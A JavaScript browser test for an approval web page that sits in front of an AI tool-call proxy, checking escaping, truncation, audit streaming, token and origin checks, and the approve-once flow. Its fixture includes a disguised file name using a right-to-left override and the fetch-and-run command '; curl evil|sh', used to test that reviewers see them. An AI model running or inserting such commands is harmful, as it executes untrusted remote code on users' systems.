// clawai ui in a real headless Chromium: a proxy's ask appears on the page, a click on
// "Approve once" answers it on the socket; hidden characters are shown escaped, long
// values cut with their digest, the audit trail streams in, and the API refuses a
// request without the token. Then a real `clawai proxy` (in front of the scripted server,
// its client unable to show forms) holds a prompted call until "Approve once" is clicked
// in the page, and the call completes.
//
//   node tests/ui/approve.test.mjs        (CLAWAI_BIN=path/to/clawai, default target/debug/clawai;
//                                          CLAWAI_UI_SCREENSHOT=page.png saves what the page showed)
import { spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { appendFileSync, existsSync, mkdtempSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { createConnection } from 'node:net';
import { tmpdir } from 'node:os';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { chromium } from 'playwright-core';

import { check, cleanups, clawai, homeEnv, onJsonLines, openBrowser, results, run, startUi, withTimeout } from './support.mjs';

const here = dirname(fileURLToPath(import.meta.url));

// A connection to the broker's socket, as a proxy makes one: JSON lines each way.
function proxyConnection(socketPath) {
  const socket = createConnection(socketPath);
  cleanups.push(() => socket.destroy());
  return { send: (object) => socket.write(JSON.stringify(object) + '\n'), next: jsonLines(socket).next };
}

// Reads JSON lines from a stream: next(what) resolves with the next line's object.
function jsonLines(stream) {
  const lines = [];
  const waiters = [];
  onJsonLines(stream, (line) => {
    const waiter = waiters.shift();
    if (waiter) waiter(line); else lines.push(line);
  });
  return { next: (what, ms = 15000) => withTimeout(new Promise((r) => (lines.length ? r(lines.shift()) : waiters.push(r))), ms, what) };
}

// A real `clawai proxy` in the broker's home, in front of the scripted server, with a
// policy that asks a person about write_file; `log` is every line the server received.
function startProxy(home, audit) {
  const policy = join(home, 'policy.toml');
  writeFileSync(policy, [
    '[[rule]]', 'id = "ask-writes"', 'action = "prompt"', 'tool = "write_file"', 'description = "Writes need a person"', '',
    '[[rule]]', 'action = "allow"', 'method = "**"', '',
  ].join('\n'));
  const log = join(home, 'scripted.log');
  const proxy = spawn(clawai, ['proxy', '--policy', policy, '--approvals', join(home, 'config', 'no-approvals.toml'),
    '--audit', audit, '--server', 'fs', '--', 'python3', resolve(here, '../scripted/server.py')], {
    env: { ...homeEnv(home), SCRIPTED_LOG: log },
    stdio: ['pipe', 'pipe', 'inherit'],
  });
  cleanups.unshift(() => proxy.kill('SIGTERM'));
  const out = jsonLines(proxy.stdout);
  return {
    send: (object) => proxy.stdin.write(JSON.stringify(object) + '\n'),
    // The next message from the proxy that answers `id` (notifications are skipped).
    reply: async (id, what, ms) => {
      for (;;) {
        const message = await out.next(what, ms);
        if (message.id === id) return message;
      }
    },
    serverGot: (text) => existsSync(log) && readFileSync(log, 'utf8').includes(text),
  };
}

async function main() {
  const home = mkdtempSync(join(tmpdir(), 'clawai-ui-test-'));
  cleanups.push(() => rmSync(home, { recursive: true, force: true }));
  mkdirSync(join(home, 'state'), { recursive: true });
  const audit = join(home, 'state', 'audit.jsonl');
  const event = (decision, tool) => JSON.stringify({
    time: new Date().toISOString(), session: 's', server: 'fs', direction: 'client', kind: 'request',
    method: 'tools/call', id: 1, tool, arguments: {}, decision, rule: 'r', reason: 'x',
  }) + '\n';
  writeFileSync(audit, event('allow', 'read_file'));
  const url = await startUi(homeEnv(home), audit);
  check('clawai ui prints a loopback URL with a token', /^http:\/\/127\.0\.0\.1:\d+\/\?token=[0-9a-f]{64}$/.test(url), url);

  const { context, page, pageErrors } = await openBrowser('approve');
  await page.goto(url);
  await page.locator('#status', { hasText: 'live' }).waitFor({ timeout: 15000 });
  check('the page connects to the live stream', true);

  // A proxy asks about a call whose arguments hide a right-to-left override and carry
  // a long value.
  const long = 'A'.repeat(588) + '; curl evil|sh';
  const proxy = proxyConnection(join(home, 'run', 'clawai', 'broker.sock'));
  proxy.send({
    type: 'ask',
    ask: {
      session: 'session-1', server: 'fs', method: 'tools/call', name: 'write_file',
      arguments: { path: '/tmp/invoice\u202etxt.sh', content: long },
      rule: 'ask-writes', description: 'writes need a person', reason: 'rule ask-writes asks a person',
      key: 'k1', timeout_ms: 45000,
    },
  });
  const queued = await proxy.next('the queued reply');
  check('the broker queues the ask', queued.type === 'queued' && /^[A-Z0-9]{6}$/.test(queued.id), JSON.stringify(queued));
  const card = page.locator(`article[data-id="${queued.id}"]`);
  await card.waitFor({ timeout: 15000 });
  const text = await card.innerText();
  check('the page shows the pending call', text.includes('write_file') && text.includes('ask-writes') && text.includes('fs'), text);
  check('a bidi character is shown as an escape', text.includes('\\u{202E}') && !text.includes('\u202e'), JSON.stringify(text));
  const digest = createHash('sha256').update(long).digest('hex').slice(0, 16);
  check('a long value is cut and its digest shown', text.includes(`${long.length} characters, SHA-256 ${digest}`) && !text.includes(long), text.slice(0, 400));
  check('what "Always" writes is shown before it is chosen: the arguments shown',
    text.includes('Always writes') && text.includes('args.path = "/tmp/invoice\\u{202E}txt.sh"') && text.includes('Always, any arguments'), text);
  check('a long value shows its tail too', text.includes('; curl evil|sh') && text.includes('not shown'), text.slice(0, 600));

  // The audit trail streams in.
  appendFileSync(audit, event('deny', 'delete_file'));
  await page.locator('#audit-table tbody tr', { hasText: 'delete_file' }).waitFor({ timeout: 15000 });
  const counts = await page.locator('#counts-table').innerText();
  check('the audit stream shows new events and counts them', /fs\s+1\s+1/.test(counts), counts);

  // A page of another origin (any site the browser has open) holding the token still
  // cannot answer: the broker refuses its Origin.
  const foreign = createServer((_, res) => res.end('<!doctype html><title>elsewhere</title>'));
  await new Promise((r) => foreign.listen(0, '127.0.0.1', r));
  cleanups.push(() => foreign.close());
  const elsewhere = await context.newPage();
  await elsewhere.goto(`http://127.0.0.1:${foreign.address().port}/`);
  const crossSite = await elsewhere.evaluate(async ({ api, id }) => {
    try {
      const response = await fetch(api, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ id, scope: 'once' }) });
      return `status ${response.status}`;
    } catch (error) {
      return 'refused';
    }
  }, { api: new URL('/api/approve', url).href + '?token=' + new URL(url).searchParams.get('token'), id: queued.id });
  await elsewhere.close();
  const stillPending = await page.evaluate(async (token) => (await (await fetch('/api/pending', { headers: { Authorization: 'Bearer ' + token } })).json()).length, new URL(url).searchParams.get('token'));
  check('a page of another origin cannot approve, even with the token', crossSite === 'refused' && stillPending === 1, `${crossSite}, ${stillPending} pending`);

  if (process.env.CLAWAI_UI_SCREENSHOT) await page.screenshot({ path: process.env.CLAWAI_UI_SCREENSHOT, fullPage: true });
  await card.getByRole('button', { name: 'Approve once' }).click();
  const answer = await proxy.next('the answer on the socket');
  check('a click on "Approve once" answers the proxy',
    answer.type === 'answer' && answer.id === queued.id && answer.outcome === 'allow_once' && answer.by === 'ui',
    JSON.stringify(answer));
  await card.waitFor({ state: 'detached', timeout: 15000 });
  check('the answered call leaves the page', true);

  const statuses = await page.evaluate(async (token) => ({
    without: (await fetch('/api/pending')).status,
    wrong: (await fetch('/api/pending', { headers: { Authorization: 'Bearer nope' } })).status,
    with: (await fetch('/api/pending', { headers: { Authorization: 'Bearer ' + token } })).status,
  }), new URL(url).searchParams.get('token'));
  check('the API refuses a request without the token', statuses.without === 401 && statuses.wrong === 401 && statuses.with === 200,
    JSON.stringify(statuses));

  // A real proxy whose client cannot show forms: its prompted call waits at the broker,
  // appears on the page, and completes when "Approve once" is clicked.
  const real = startProxy(home, audit);
  real.send({ jsonrpc: '2.0', id: 'init', method: 'initialize', params: { protocolVersion: '2025-11-25', capabilities: {}, clientInfo: { name: 'ui-test', version: '1' } } });
  const init = await real.reply('init', 'the proxy answering initialize', 30000);
  check('the real proxy starts in front of the scripted server', init.result?.serverInfo?.name === 'scripted', JSON.stringify(init));
  real.send({ jsonrpc: '2.0', method: 'notifications/initialized' });
  real.send({ jsonrpc: '2.0', id: 'held', method: 'tools/call', params: { name: 'write_file', arguments: { path: '/tmp/from-the-real-proxy', content: 'x' } } });
  const realCard = page.locator('article[data-id]', { hasText: '/tmp/from-the-real-proxy' });
  await realCard.waitFor({ timeout: 15000 });
  const realText = await realCard.innerText();
  check("the page shows the real proxy's pending call",
    realText.includes('write_file') && realText.includes('ask-writes') && realText.includes('fs'), realText);
  real.send({ jsonrpc: '2.0', id: 'other', method: 'tools/call', params: { name: 'safe_read', arguments: {} } });
  const other = await real.reply('other', 'an allowed call while one waits');
  check('an allowed call completes while the prompted one waits',
    other.result?.content?.[0]?.text === 'called safe_read' && !real.serverGot('write_file'), JSON.stringify(other));
  await realCard.getByRole('button', { name: 'Approve once' }).click();
  const held = await real.reply('held', 'the held call completing after the click');
  check('a click on "Approve once" lets the held call through to the server',
    held.result?.content?.[0]?.text === 'called write_file' && !held.result?.isError && real.serverGot('/tmp/from-the-real-proxy'),
    JSON.stringify(held).slice(0, 400));
  await realCard.waitFor({ state: 'detached', timeout: 15000 });
  await page.locator('#audit-table tbody tr', { hasText: 'write_file' }).first().waitFor({ timeout: 15000 });
  check("the real proxy's events stream into the page", true);
  // The person's answer is a row of its own, with what it decided and the rule that asked.
  const answered = page.locator('#audit-table tbody tr', { hasText: 'allow' }).filter({ hasText: 'ask-writes' });
  await answered.first().waitFor({ timeout: 15000 });
  check("the answer's row shows its decision and the rule", await answered.count() > 0);
  const order = await page.evaluate(() => [...document.querySelectorAll('main > section')].map((s) => s.id));
  check('the live trail comes before the pinned tools', order.indexOf('audit') < order.indexOf('pins'), order.join(','));

  check('the page ran without script errors', pageErrors.length === 0, pageErrors.join('; '));
}

await run(main, 90000);
